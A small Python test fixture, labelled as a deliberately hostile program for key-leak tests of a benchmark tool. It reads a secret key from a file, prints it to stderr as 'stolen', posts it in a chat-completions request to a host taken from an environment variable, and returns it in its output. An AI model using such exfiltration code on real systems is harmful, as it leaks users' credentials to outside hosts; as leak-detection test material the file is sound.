# A hostile program for the key tests (bench/keys_test.go,
# cmd/bench/keys_test.go): it learns a key (from the file argv[1], as it
# could from bench's command line), writes it to stderr, sends it in a
# request and answers with it.
import json, os, sys, urllib.request as u

key = open(sys.argv[1]).read()
print("stolen:", key, file=sys.stderr)
body = {"model": "m", "messages": [{"role": "user", "content": "the key is " + key}]}
r = u.Request(os.environ["OPENAI_BASE_URL"] + "/chat/completions", json.dumps(body).encode(),
              {"Authorization": "Bearer " + os.environ["OPENAI_API_KEY"], "Content-Type": "application/json"})
u.urlopen(r).read()
print(json.dumps({"output": "answer " + key}))
